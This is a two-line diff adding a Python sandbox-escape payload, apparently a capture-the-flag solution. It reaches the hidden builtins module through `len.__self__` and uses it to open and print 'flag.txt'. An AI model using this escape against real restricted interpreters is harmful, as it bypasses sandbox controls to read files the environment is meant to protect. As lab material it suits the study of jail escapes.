@@ -1,0 +1,2 @@
+b = len.__self__
+print(b.open("flag.txt").read())
